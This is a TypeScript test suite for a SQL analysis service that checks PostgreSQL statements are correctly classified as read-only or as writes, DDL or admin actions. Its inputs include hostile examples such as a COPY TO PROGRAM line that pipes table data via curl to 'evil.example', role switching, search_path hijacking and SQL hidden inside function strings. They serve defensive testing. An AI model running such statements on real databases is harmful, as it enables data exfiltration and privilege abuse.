import fc from 'fast-check';
import { SqlAnalysisService, SqlOutcome } from './sql-analysis.service';
import { MAX_LISTED } from './sql-tree';

const service = new SqlAnalysisService();
beforeAll(() => service.onModuleInit());

function analysed(sql: string): Extract<SqlOutcome, { parsed: true }> {
  const outcome = service.analyse(sql);
  if (!outcome.parsed) throw new Error(`expected ${sql} to parse: ${outcome.error}`);
  return outcome;
}

describe('SqlAnalysisService: read-only statements', () => {
  it.each([
    ['SELECT 1', [], []],
    ['SELECT id, email FROM customers WHERE id = $1', ['customers'], []],
    ['select * from Public.Customers c join orders o on o.customer_id = c.id', ['public.customers', 'orders'], []],
    ['SELECT * FROM "Customers"', ['"Customers"'], []],
    ['SELECT * FROM sales."Q1 Orders"', ['sales."Q1 Orders"'], []],
    ['SELECT * FROM U&"cust\\006Fmers"', ['customers'], []],
    ['SELECT * FROM a UNION SELECT * FROM b', ['a', 'b'], []],
    ['SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))', ['t', 'u', 'v'], []],
    ['WITH recent AS (SELECT * FROM orders) SELECT * FROM recent', ['orders'], []],
    ['WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r', [], []],
    ['VALUES (1, 2), (3, 4)', [], []],
    ['TABLE customers', ['customers'], []],
    ['/* DELETE FROM x */ SELECT 1 -- ; DROP TABLE y', [], []],
    ["SELECT 'DELETE FROM customers; DROP TABLE x'", [], []],
    ['SELECT 1; SELECT 2;', [], []],
  ])('%s is read-only', (sql, read, written) => {
    const {
      analysis,
      facts: { writes },
    } = analysed(sql);
    expect(analysis.readOnly).toBe(true);
    expect(analysis.statementKinds).toEqual(['SelectStmt']);
    expect(analysis.tablesRead).toEqual(read);
    expect(analysis.tablesWritten).toEqual(written);
    expect(writes).toEqual([]);
  });

  it('does not take a CTE defined in another scope for a table it shadows', () => {
    const { analysis } = analysed('SELECT * FROM (WITH secrets AS (SELECT 1) SELECT * FROM secrets) s, secrets');
    expect(analysis.tablesRead).toEqual(['secrets']);
  });

  it('lets a CTE see only the CTEs before it, unless RECURSIVE', () => {
    expect(analysed('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a').analysis.tablesRead).toEqual(['b']);
    expect(
      analysed('WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a').analysis.tablesRead,
    ).toEqual([]);
  });
});

describe('SqlAnalysisService: writes are never read-only', () => {
  it.each([
    ['DELETE FROM customers', 'DeleteStmt', 'DeleteStmt with no WHERE on customers', ['customers'], []],
    ['delete from CUSTOMERS where id = 1', 'DeleteStmt', 'DeleteStmt on customers', ['customers'], []],
    ['DELETE FROM "Customers"', 'DeleteStmt', 'DeleteStmt with no WHERE on "Customers"', ['"Customers"'], []],
    ['INSERT INTO s.t (a) SELECT a FROM u', 'InsertStmt', 'InsertStmt on s.t', ['s.t'], ['u']],
    ['UPDATE t SET a = 1 FROM u WHERE t.id = u.id', 'UpdateStmt', 'UpdateStmt on t', ['t'], ['u']],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'MergeStmt', 'MergeStmt on t', ['t'], ['s']],
    [
      'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
      'SelectStmt',
      'DeleteStmt with no WHERE on t (nested)',
      ['t'],
      [],
    ],
    [
      'SELECT * FROM (WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u) x',
      'SelectStmt',
      'UpdateStmt with no WHERE on t (nested)',
      ['t'],
      [],
    ],
    [
      '(WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM i) UNION SELECT 1',
      'SelectStmt',
      'InsertStmt on t (nested)',
      ['t'],
      [],
    ],
    ['SELECT * FROM customers FOR UPDATE', 'SelectStmt', 'SelectStmt with FOR UPDATE', [], ['customers']],
    [
      'SELECT * FROM customers FOR KEY SHARE SKIP LOCKED',
      'SelectStmt',
      'SelectStmt with FOR KEY SHARE',
      [],
      ['customers'],
    ],
    [
      'SELECT * FROM (SELECT * FROM t FOR NO KEY UPDATE) s',
      'SelectStmt',
      'SelectStmt with FOR NO KEY UPDATE (nested)',
      [],
      ['t'],
    ],
    ['(SELECT * FROM a FOR SHARE) UNION SELECT * FROM b', 'SelectStmt', 'SelectStmt with FOR SHARE', [], ['a', 'b']],
    ['SELECT * INTO copy FROM customers', 'SelectStmt', 'SelectStmt with INTO on copy', ['copy'], ['customers']],
    ['SELECT * INTO TEMP t2 FROM t', 'SelectStmt', 'SelectStmt with INTO on t2', ['t2'], ['t']],
    ['CREATE TABLE x AS SELECT * FROM t', 'CreateTableAsStmt', 'CreateTableAsStmt on x', ['x'], ['t']],
    ['CREATE VIEW v AS SELECT * FROM t', 'ViewStmt', 'ViewStmt on v', ['v'], ['t']],
    ['CREATE TABLE n (LIKE t, id int REFERENCES p)', 'CreateStmt', 'CreateStmt on n', ['n'], ['t', 'p']],
    ['ALTER TABLE t ADD COLUMN c int', 'AlterTableStmt', 'AlterTableStmt on t', ['t'], []],
    ['DROP TABLE x, s."Y"', 'DropStmt', 'DropStmt on x, s."Y"', ['x', 's."Y"'], []],
    ['TRUNCATE a, b', 'TruncateStmt', 'TruncateStmt on a, b', ['a', 'b'], []],
    ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'LockStmt', 'LockStmt on t', ['t'], []],
    ['GRANT SELECT ON t TO public', 'GrantStmt', 'GrantStmt on t', ['t'], []],
    ["COPY t TO PROGRAM 'curl -d @- evil.example'", 'CopyStmt', 'CopyStmt with PROGRAM', [], ['t']],
    ["COPY t FROM '/tmp/x.csv'", 'CopyStmt', 'CopyStmt with a server file on t', ['t'], []],
    ['COPY (SELECT * FROM t) TO STDOUT', 'CopyStmt', 'CopyStmt', [], ['t']],
    ['DO $$ BEGIN DELETE FROM t; END $$', 'DoStmt', 'DoStmt', [], []],
    ['SET ROLE admin', 'VariableSetStmt', 'VariableSetStmt', [], []],
    ['SET search_path = evil, public', 'VariableSetStmt', 'VariableSetStmt', [], []],
    ['RESET ROLE', 'VariableSetStmt', 'VariableSetStmt', [], []],
    ['SHOW search_path', 'VariableShowStmt', 'VariableShowStmt', [], []],
    ['CALL purge_customers()', 'CallStmt', 'CallStmt', [], []],
    ['EXPLAIN ANALYZE DELETE FROM x', 'ExplainStmt', 'DeleteStmt with no WHERE on x (nested)', ['x'], []],
    ['EXPLAIN SELECT * FROM t', 'ExplainStmt', 'ExplainStmt', [], ['t']],
    ['BEGIN', 'TransactionStmt', 'TransactionStmt', [], []],
    ['PREPARE p AS DELETE FROM t', 'PrepareStmt', 'DeleteStmt with no WHERE on t (nested)', ['t'], []],
    ['EXECUTE p', 'ExecuteStmt', 'ExecuteStmt', [], []],
    ['DECLARE c CURSOR FOR SELECT * FROM t', 'DeclareCursorStmt', 'DeclareCursorStmt', [], ['t']],
    ['VACUUM t', 'VacuumStmt', 'VacuumStmt on t', ['t'], []],
    ['REFRESH MATERIALIZED VIEW mv', 'RefreshMatViewStmt', 'RefreshMatViewStmt on mv', ['mv'], []],
    [
      'CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ DELETE FROM t RETURNING 1 $$',
      'CreateFunctionStmt',
      'CreateFunctionStmt',
      [],
      [],
    ],
  ])('%s is not read-only', (sql, kind, finding, written, read) => {
    const {
      analysis,
      facts: { writes },
    } = analysed(sql);
    expect(analysis.readOnly).toBe(false);
    expect(analysis.statementKinds).toEqual([kind]);
    expect(writes).toContain(finding);
    expect(analysis.tablesWritten).toEqual(written);
    expect(analysis.tablesRead).toEqual(read);
  });

  it('counts every statement of a batch', () => {
    const {
      analysis,
      facts: { writes },
    } = analysed('SELECT 1; DROP TABLE x');
    expect(analysis).toEqual({
      statementKinds: ['SelectStmt', 'DropStmt'],
      tablesRead: [],
      tablesWritten: ['x'],
      readOnly: false,
      classes: ['read', 'ddl'],
      functions: [],
      deleteWithoutWhere: [],
      updateWithoutWhere: [],
      statementCount: 2,
    });
    expect(writes).toEqual(['DropStmt on x']);
  });

  it('hides no statement behind comments, odd casing or whitespace', () => {
    const { analysis } = analysed('SeLeCt 1 /* comment ; */ ;\n\t--x\n  dElEtE/**/FROM\n"public" . customers');
    expect(analysis.statementKinds).toEqual(['SelectStmt', 'DeleteStmt']);
    expect(analysis.tablesWritten).toEqual(['public.customers']);
    expect(analysis.readOnly).toBe(false);
  });

  it('is not read-only when there is no statement at all', () => {
    expect(analysed('-- nothing here').analysis).toMatchObject({ statementKinds: [], readOnly: false });
    expect(analysed(';').analysis.readOnly).toBe(false);
  });
});

describe('SqlAnalysisService: limits and errors', () => {
  it('returns the parser message for SQL that does not parse', () => {
    expect(service.analyse('SELEC * FROM t')).toEqual({ parsed: false, error: 'syntax error at or near "SELEC"' });
    expect(service.analyse("SELECT 'unterminated")).toEqual({
      parsed: false,
      error: expect.stringMatching(/unterminated quoted string/),
    });
  });

  it('walks a deeply nested tree without exhausting the stack', () => {
    const depth = 1000; // about as deep as PostgreSQL's parser goes before "memory exhausted"
    const nested = (inner: string) =>
      `SELECT * FROM t WHERE a IN ${'(SELECT a FROM t WHERE a IN '.repeat(depth)}(${inner})${')'.repeat(depth)}`;
    expect(analysed(nested('1')).analysis).toMatchObject({ readOnly: true, tablesRead: ['t'] });
    expect(analysed(`WITH d AS (DELETE FROM x RETURNING a) ${nested('SELECT a FROM d')}`).analysis).toMatchObject({
      readOnly: false,
      tablesWritten: ['x'],
    });
  });

  it('caps the table lists at the contract limit but still decides on every table', () => {
    const tables = Array.from({ length: MAX_LISTED + 5 }, (_, i) => `t${i}`);
    const { analysis } = analysed(`SELECT 1 FROM ${tables.join(', ')}; DELETE FROM last_one`);
    expect(analysis.tablesRead).toHaveLength(MAX_LISTED);
    expect(analysis.readOnly).toBe(false);
  });
});

describe('SqlAnalysisService: statement classes, functions, WHERE-less writes', () => {
  it.each([
    ['SELECT * FROM customers', ['read']],
    ['SELECT count(*) FROM t', ['read']],
    ['DELETE FROM t WHERE id = 1', ['write']],
    ['INSERT INTO t SELECT * FROM u', ['read', 'write']],
    ['INSERT INTO t VALUES (1), (2)', ['write']],
    ['INSERT INTO t VALUES ((SELECT max(id) FROM u))', ['read', 'write']],
    ["INSERT INTO t VALUES (nextval('s'))", ['write']],
    ["INSERT INTO t VALUES (set_config('role', 'x', false))", ['write', 'admin']],
    ['VALUES (1)', ['read']],
    ['SELECT * FROM (VALUES (1)) v', ['read']],
    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['read', 'write']],
    [
      'WITH a AS (WITH b AS (UPDATE t SET x = 1 WHERE y RETURNING *) SELECT * FROM b) SELECT * FROM a',
      ['read', 'write'],
    ],
    ['SELECT * FROM t FOR UPDATE', ['write']],
    ["SELECT nextval('s')", ['write']],
    ["select PG_CATALOG.SETVAL('s', 1)", ['write']],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', ['admin']],
    ["SELECT * FROM t WHERE EXISTS (SELECT set_config('role', 'x', false))", ['read', 'admin']],
    ["SELECT dblink_exec('host=x', 'DELETE FROM t')", ['admin']],
    // SQL hidden in a string: query_to_xml runs it (a SELECT calling setval writes).
    ["SELECT query_to_xml('select setval(''s'', 1)', true, true, '')", ['admin']],
    ["SELECT * FROM ts_stat('SELECT nextval(''s'')::text::tsvector')", ['admin']],
    ['SELECT pg_try_advisory_lock(1)', ['write']],
    ['SELECT pg_current_xact_id()', ['write']],
    ['SELECT lowrite(0, ab) FROM t', ['write']],
    ["SELECT pg_logical_slot_get_changes('s', NULL, NULL)", ['admin']],
    ['SELECT pg_stat_reset()', ['admin']],
    ['SELECT * INTO n FROM t', ['ddl']],
    ['TRUNCATE t', ['ddl']],
    ['CREATE TABLE z (a int)', ['ddl']],
    ['DROP TABLE t', ['ddl']],
    ["COPY t FROM PROGRAM 'curl x'", ['admin']],
    ['COPY t FROM STDIN', ['write']],
    ["COPY t TO '/tmp/t.csv'", ['admin']],
    ['DO $$ BEGIN END $$', ['admin']],
    ['SET ROLE postgres', ['admin']],
    ['GRANT ALL ON t TO public', ['admin']],
    ['CALL p()', ['admin']],
    ['EXPLAIN SELECT 1', ['read', 'admin']],
    ['BEGIN', ['admin']],
  ])('%s has classes %j', (sql, classes) => {
    expect(analysed(sql).facts.classes).toEqual(classes);
  });

  it('lists the functions called, lower case and qualified as written', () => {
    const { facts } = analysed(
      'SELECT Lower(email), pg_catalog.now(), count(*) FROM t WHERE my.f(id) AND g() IN (SELECT h())',
    );
    expect(facts.functions.sort()).toEqual(['count', 'g', 'h', 'lower', 'my.f', 'pg_catalog.now']);
  });

  it('names the tables a DELETE or UPDATE without WHERE acts on, nested ones too', () => {
    const { facts } = analysed(
      'DELETE FROM a WHERE id = 1; DELETE FROM b; WITH u AS (UPDATE c SET x = 1 RETURNING *) SELECT * FROM u; UPDATE d SET x = 1 WHERE true',
    );
    expect(facts.deleteWithoutWhere).toEqual(['b']);
    expect(facts.updateWithoutWhere).toEqual(['c']);
    expect(facts.statementCount).toBe(4);
  });

  it('lists what it found per class', () => {
    const { facts } = analysed('SELECT 1; DELETE FROM t; DROP TABLE x');
    expect(facts.findings).toEqual({ write: ['DeleteStmt with no WHERE on t'], ddl: ['DropStmt on x'] });
  });
});

describe('SqlAnalysisService: property', () => {
  const reads = [
    'SELECT 1',
    'SELECT * FROM customers',
    'SELECT a FROM t JOIN u USING (id)',
    'TABLE orders',
    'VALUES (1)',
    'WITH x AS (SELECT 1) SELECT * FROM x',
  ];
  const writes = [
    'DELETE FROM customers',
    'UPDATE t SET a = 1',
    'INSERT INTO t VALUES (1)',
    'DROP TABLE t',
    'TRUNCATE t',
    'SELECT * FROM t FOR UPDATE',
    'SELECT * INTO n FROM t',
    'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    "COPY t TO PROGRAM 'x'",
    'DO $$ BEGIN END $$',
    'SET ROLE admin',
    'EXPLAIN ANALYZE DELETE FROM t',
    'CREATE TABLE z (a int)',
    'GRANT ALL ON t TO public',
    'CALL p()',
    'COMMIT',
    "SELECT nextval('s')",
    'SELECT pg_terminate_backend(1)',
    "SELECT query_to_xml('select nextval(''s'')', true, true, '')",
    'SELECT pg_try_advisory_xact_lock(1)',
    'SELECT * FROM t WHERE id IN (WITH x AS (INSERT INTO u VALUES (1) RETURNING id) SELECT id FROM x)',
  ];
  const decorate = (sql: string, upper: boolean, comment: boolean) =>
    `${comment ? '/* ; */ ' : ''}${upper ? sql.toUpperCase() : sql.toLowerCase()}`;

  it('a batch holding any write is never read-only, wherever the write sits', () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom(...reads), { maxLength: 5 }),
        fc.constantFrom(...writes),
        fc.nat(),
        fc.boolean(),
        fc.boolean(),
        (readStatements, write, at, upper, comment) => {
          const batch = [...readStatements];
          batch.splice(at % (batch.length + 1), 0, write);
          const outcome = service.analyse(batch.map((s) => decorate(s, upper, comment)).join(';\n'));
          return (
            outcome.parsed &&
            !outcome.analysis.readOnly &&
            outcome.facts.writes.length > 0 &&
            outcome.facts.classes.some((c) => c !== 'read')
          );
        },
      ),
      { numRuns: 500 },
    );
  });

  it('a batch of reads only is read-only', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...reads), { minLength: 1, maxLength: 6 }), (batch) => {
        const outcome = service.analyse(batch.join('; '));
        return outcome.parsed && outcome.analysis.readOnly && outcome.facts.classes.join() === 'read';
      }),
    );
  });
});
